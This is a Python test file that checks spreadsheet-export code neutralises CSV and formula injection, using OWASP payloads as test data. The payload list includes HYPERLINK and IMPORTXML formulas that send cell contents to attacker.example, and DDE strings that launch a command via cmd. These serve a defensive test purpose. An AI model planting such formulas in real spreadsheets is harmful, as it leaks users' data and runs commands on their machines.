import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from catalogue.spreadsheets import csv_text, keep_as_text


@pytest.mark.parametrize("risky", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_risky_csv_text_is_quoted(risky):
    assert csv_text(risky) == "'" + risky


# OWASP's CSV injection payloads (the CSV Injection page and its cheat sheet): formulas, DDE
# commands, and a field that tries to break out of its quotes or its cell.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+9+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_come_back_from_a_csv_file_as_inert_text(payload):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(["name", csv_text(payload), csv_text("x," + payload)])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells[1] == "'" + payload  # whole, one cell, starting with a quote
    assert cells[2] == "x," + payload  # a separator inside a cell stays inside it


@pytest.mark.parametrize("plain", ["EMIS Web", "3427.72", "", None, 12, "a=b"])
def test_plain_values_are_left_alone(plain):
    assert csv_text(plain) == plain


def test_xlsx_text_that_looks_like_a_formula_is_stored_as_text():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(['=HYPERLINK("http://x","y")', "plain", 3])
    keep_as_text(sheet[1])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell, plain, number = load_workbook(io.BytesIO(buffer.getvalue())).active[1]
    assert (cell.data_type, cell.value) == ("s", '=HYPERLINK("http://x","y")')
    assert plain.value == "plain" and number.value == 3
